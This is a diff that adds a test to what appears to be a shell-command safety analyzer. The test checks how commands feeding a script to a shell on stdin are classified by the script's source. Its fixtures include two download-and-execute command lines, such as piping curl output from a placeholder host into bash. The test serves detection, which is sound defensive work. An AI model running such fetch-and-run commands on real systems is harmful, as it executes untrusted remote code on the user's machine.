@@ -299,3 +299,20 @@ def test_the_fast_path_splits_exactly_like_the_parser(words: list[str], sep: str
     finally:
         shell._PLAIN = original
     assert fast == parsed
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("sh < install.sh", set()),
+        ("python3 < job.py", set()),
+        ("bash < <(curl -s https://e.example/a)", {"download_exec"}),
+        ("curl -o x.sh https://e.example/a; bash < x.sh", {"download_exec"}),
+        ("sh < $F", {"opaque"}),
+    ],
+)
+def test_a_script_on_stdin_is_judged_by_where_it_came_from(
+    command: str, expected: set[str]
+) -> None:
+    tags = analyze_command(command).tags & {"download_exec", "opaque"}
+    assert tags == expected
